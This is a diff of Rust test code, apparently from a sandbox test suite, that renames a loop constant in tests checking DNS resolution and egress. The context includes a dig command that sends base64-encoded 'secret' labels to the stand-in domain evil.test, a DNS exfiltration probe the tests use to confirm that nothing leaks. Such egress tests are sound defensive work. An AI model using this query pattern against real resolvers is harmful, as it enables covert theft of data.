@@ -80,7 +80,7 @@ impl Names {
 
     /// An allowed name has its addresses; another is not there, which is on record.
     fn check(&self, resolver: &Resolver) -> Result<()> {
-        for way in WAYS {
+        for way in AS_ROOT {
             for (version, server) in SERVERS.iter().enumerate() {
                 for protocol in resolver.protocols {
                     self.ask(server, protocol)?;
@@ -177,7 +177,7 @@ fn no_record_tells_of_encrypted_names_and_labels_carry_nothing_out() -> Result<(
     // The host's name has no such records; a name below it, and any other of whatever type, is none.
     let labels = KINDS.map(|kind| format!("c2VjcmV0.{kind}.evil.test {kind}"));
     let questions = format!("{API} HTTPS {API} SVCB c2VjcmV0.{API} TXT {}", labels.join(" "));
-    for way in WAYS {
+    for way in AS_ROOT {
         for server in SERVERS {
             for protocol in ["+notcp", "+tcp"] {
                 let script = format!("dig @{server} +time=5 +tries=1 {protocol} {questions}");
@@ -208,7 +208,7 @@ fn systemd_resolved_does_not_ask_for_a_managed_program() -> Result<()> {
         "resolvectl query {API} && getent -s resolve ahosts {API}"
     ))?;
     assert!(open.status.success(), "{open:?}");
-    for way in WAYS {
+    for way in AS_ROOT {
         let varlink =
             "import socket; socket.socket(socket.AF_UNIX).connect('/run/systemd/resolve/io.systemd.Resolve')";
         for script in [
